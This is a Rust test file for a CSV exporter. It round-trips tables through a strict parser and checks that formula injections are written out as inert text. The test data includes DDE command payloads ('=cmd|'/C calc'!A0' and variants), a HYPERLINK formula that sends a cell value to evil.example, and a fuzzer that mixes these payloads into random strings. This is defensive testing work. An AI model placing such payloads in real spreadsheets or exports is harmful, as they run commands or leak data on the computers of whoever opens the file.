//! The CSV table: golden files, a round trip with a strict reader, and formula injections.

use super::{assert_golden, example, named};
use crate::tests::support::random::{Extent, Rng, profiles};
use crate::tests::support::{BANK, everybody, lang};
use interlocal_core::export::{csv, csv_header, csv_line, csv_rows};
use interlocal_core::plain_text::PlainText;
use interlocal_core::profile::Profile;
use interlocal_core::score::score;
use interlocal_core::visible::{effective, is_shown};
use std::collections::BTreeMap;

/// Parses RFC 4180 strictly, after a byte order mark.
fn parse(file: &str) -> Vec<Vec<String>> {
    let mut rest = file.strip_prefix('\u{FEFF}').expect("a byte order mark");
    let mut rows = vec![Vec::new()];
    while !rest.is_empty() {
        let (cell, after) = match rest.strip_prefix('"') {
            Some(quoted) => quoted_cell(quoted),
            None => {
                let (cell, after) = rest.split_at(rest.find([',', '\r']).expect("an end of the line"));
                assert!(!cell.contains(['"', '\n']), "{cell}");
                (cell.to_owned(), after)
            }
        };
        rows.last_mut().unwrap().push(cell);
        rest = match after.strip_prefix(',') {
            Some(after) => after,
            None => {
                rows.push(Vec::new());
                after.strip_prefix("\r\n").expect("CR LF")
            }
        };
    }
    assert_eq!(rows.pop(), Some(Vec::new()));
    rows
}

fn quoted_cell(text: &str) -> (String, &str) {
    let mut cell = String::new();
    let mut rest = text;
    loop {
        let (part, after) = rest.split_once('"').expect("a closing quote");
        cell.push_str(part);
        match after.strip_prefix('"') {
            Some(after) => {
                cell.push('"');
                rest = after;
            }
            None => return (cell, after),
        }
    }
}

/// Returns the rows by column name.
fn rows(file: &str) -> Vec<BTreeMap<String, String>> {
    let mut lines = parse(file).into_iter();
    let names = lines.next().unwrap();
    let row = |cells: Vec<String>| {
        assert_eq!(cells.len(), names.len());
        names.iter().cloned().zip(cells).collect()
    };
    lines.map(row).collect()
}

fn written(profile: &Profile) -> Vec<BTreeMap<String, String>> {
    rows(&csv(&BANK, lang("en"), profile))
}

#[test]
fn the_table_equals_its_golden_file() {
    for code in ["en", "es"] {
        assert_golden(&format!("little-quill.{code}.csv"), &csv(&BANK, lang(code), &example(code)));
    }
}

#[test]
fn a_strict_reader_gets_every_answer() {
    let random = profiles(&BANK, Extent::Long, 60).map(|(_, profile)| profile);
    for profile in everybody().into_iter().chain(random) {
        let card = score(&BANK, &profile);
        let rows = written(&profile);
        assert_eq!(rows.len(), BANK.capabilities.len());
        for (row, capability) in rows.iter().zip(&BANK.capabilities) {
            let known = card.row(capability.slot);
            let number = |level: Option<u8>| level.map(|level| level.to_string()).unwrap_or_default();
            assert_eq!(row["capability"], capability.id);
            assert_eq!(row["applicable"], if known.is_some() { "yes" } else { "no" });
            assert_eq!(row["applicable"] == "yes", row["why_not"].is_empty());
            assert_eq!(row["skill"], number(known.and_then(|row| row.skill)));
            assert_eq!(row["need"], number(known.and_then(|row| row.need)));
            assert_eq!(row["quadrant"].is_empty(), known.is_none_or(|row| row.quadrant.is_none()));
            assert_eq!(row["date"], profile.date.map(|date| date.iso()).unwrap_or_default());
            let is_hidden = !is_shown(capability, &profile);
            assert_eq!(
                row["why_not"] == "not-asked",
                is_hidden,
                "{:?}",
                effective(&BANK, &profile, capability.slot)
            );
        }
    }
}

#[test]
fn requirement_13_a_formula_in_a_name_is_text() {
    for evil in [
        "=cmd|'/C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
        "\u{FF1D}1+1",
        "Oak;=1+1",
        "Oak; @x",
        "\"=1",
        "'=1",
        "=\"a\",\"b\"",
    ] {
        let file = csv(&BANK, lang("en"), &named(evil));
        for row in rows(&file) {
            let starts = |text: &str| text.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}']);
            for (column, cell) in &row {
                // Computers in many regions split cells at semicolons.
                assert!(!cell.split(';').any(|part| starts(part.trim_start())), "{column}: {cell}");
            }
            assert_eq!(row["agency"].replace('\'', ""), evil.replace('\'', ""));
        }
    }
}

#[test]
fn several_profiles_share_one_header() {
    let profiles = everybody();
    let rest: String = profiles.iter().map(|profile| csv_rows(&BANK, lang("es"), profile)).collect();
    let rows = rows(&[csv_header(&BANK), rest].concat());
    assert_eq!(rows.len(), profiles.len() * BANK.capabilities.len());
    assert!(rows[0].keys().any(|column| column == "ctx-kind"));
}

/// Returns the cells of `table` for every way in which a reader may split it, without the quotes and blanks that it may
/// drop.
fn cut_anyhow(table: &str) -> Vec<String> {
    let is_blank = |c: char| c == '"' || c == ' ' || c == '\u{A0}' || c == '\u{FEFF}';
    let seps: [&[char]; 4] = [&[','], &[';'], &['\t'], &[',', ';', '\t']];
    let lines = || table.split("\r\n").flat_map(|line| line.split(['\r', '\n']));
    let cells = seps.into_iter().flat_map(|sep| lines().flat_map(move |line| line.split(sep)));
    let whole = parse(table).into_iter().flatten();
    cells.flat_map(|cell| [cell.to_owned(), cell.trim_matches(is_blank).to_owned()]).chain(whole).collect()
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'])
}

fn hostile(rng: &mut Rng) -> String {
    const PIECES: [&str; 16] = [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        ";",
        ",",
        "\"",
        " ",
        "'",
        "a",
        "\u{A0}",
        "\u{FF1D}",
        "=cmd|'/c calc'!A0",
    ];
    (0..rng.below(9)).map(|_| rng.pick(&PIECES)).collect()
}

#[test]
fn no_cell_is_a_formula_for_any_separator() {
    let mut rng = Rng::new(31);
    for _ in 0..20_000 {
        let row: Vec<String> = (0..3).map(|_| hostile(&mut rng)).collect();
        let table = ["\u{FEFF}", &csv_line(row.iter().map(String::as_str))].concat();
        for cell in cut_anyhow(&table) {
            assert!(!is_formula(&cell), "{cell:?} in {table:?} of {row:?}");
        }
        // The writer adds only apostrophes.
        let read = parse(&table).remove(0);
        let plain = |cells: &[String]| cells.concat().replace('\'', "");
        assert_eq!(plain(&read), plain(&row));
    }
}

/// The injection that was published, as the local area of a profile.
#[test]
fn a_formula_after_a_quote_is_text() {
    let mut profile = everybody().remove(0);
    profile.context.local = PlainText::new(";\"=cmd|'/c calc'!A0;", 60).ok();
    assert!(profile.context.local.is_some());
    let table = csv(&BANK, lang("en"), &profile);
    assert!(cut_anyhow(&table).iter().all(|cell| !is_formula(cell)));
}
